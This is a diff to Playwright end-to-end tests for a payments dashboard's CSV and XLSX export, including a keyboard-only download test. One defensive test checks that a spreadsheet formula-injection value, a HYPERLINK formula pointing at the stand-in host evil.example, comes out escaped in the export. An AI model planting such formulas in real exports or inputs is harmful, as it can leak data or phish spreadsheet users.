@@ -1,6 +1,8 @@
 import { randomInt } from "node:crypto";
 import { readFile } from "node:fs/promises";
 import type { APIRequestContext, Page } from "@playwright/test";
+import { rowsOf } from "@/tests/support/workbook";
+import { downloadAs, textOf } from "./download";
 import { newPhone } from "./sandbox-payer";
 import { expect, test } from "./sign-in";
 
@@ -97,14 +99,9 @@ test("filters are kept in the URL, and the matching payments can be exported", a
 
   await page.reload();
   await expect(rowOf(page, order.orderId)).toBeVisible();
-  const [download] = await Promise.all([
-    page.waitForEvent("download"),
-    page.getByRole("link", { name: "Download CSV" }).click(),
-  ]);
+  const download = await downloadAs(page, "CSV");
   expect(download.suggestedFilename()).toMatch(/^payments-all-to-\d{4}-\d\d-\d\d\.csv$/);
-  const parts: Buffer[] = [];
-  for await (const part of await download.createReadStream()) parts.push(part as Buffer);
-  const lines = Buffer.concat(parts).toString("utf8").trimEnd().split("\r\n");
+  const lines = (await textOf(download)).trimEnd().split("\r\n");
   expect(lines).toHaveLength(2);
   expect(lines[1]).toContain(`,77.7,KZT,`);
 
@@ -147,12 +144,45 @@ test("input from payers and tills is never a formula in the export", async ({
   expect((await request.post("/api/v1/payments/link", { headers, data })).ok()).toBe(true);
   await page.goto(`/payments?merchant_order_id=${encodeURIComponent(data.merchant_order_id)}`);
   await expect(page.getByRole("row")).toHaveCount(2);
+  const file = await textOf(await downloadAs(page, "CSV"));
+  expect(file).toContain(`"'=HYPERLINK(""https://evil.example/${number}"")"`);
+});
+
+test("the payments are downloaded as a workbook, with the keyboard alone", async ({
+  signedIn: page,
+  request,
+  demo,
+}) => {
+  const order = orderOf(request, demo);
+  await order.pay(77.7);
+  await page.goto(`/payments?merchant_order_id=${order.orderId}`);
+  await expect(rowOf(page, order.orderId)).toBeVisible();
+  const button = page.getByRole("button", { name: "Download" });
+  const excel = page.getByRole("menuitem", { name: "Excel (XLSX)" });
+  await expect(async () => {
+    // A key before hydration opens nothing.
+    if (!(await excel.isVisible())) await button.press("Enter");
+    await expect(excel).toBeVisible({ timeout: 1000 });
+  }).toPass();
+  await expect(async () => {
+    await page.keyboard.press("ArrowDown");
+    await expect(excel).toBeFocused({ timeout: 500 });
+  }).toPass();
   const [download] = await Promise.all([
     page.waitForEvent("download"),
-    page.getByRole("link", { name: "Download CSV" }).click(),
+    page.keyboard.press("Enter"),
   ]);
-  const file = await readFile(await download.path(), "utf8");
-  expect(file).toContain(`"'=HYPERLINK(""https://evil.example/${number}"")"`);
+  await expect(excel).toBeHidden();
+  await expect(button).toBeFocused();
+  expect(download.suggestedFilename()).toMatch(/^payments-all-to-\d{4}-\d\d-\d\d\.xlsx$/);
+  const [names, values, ...more] = rowsOf(await readFile(await download.path()));
+  expect(more).toEqual([]);
+  const row = Object.fromEntries(names!.map((name, index) => [name, values![index]]));
+  expect(row).toMatchObject({
+    amount: 77.7,
+    payer_phone: order.phone,
+    merchant_order_id: order.orderId,
+  });
 });
 
 test("the search finds a payment by its order ID with the keyboard", async ({
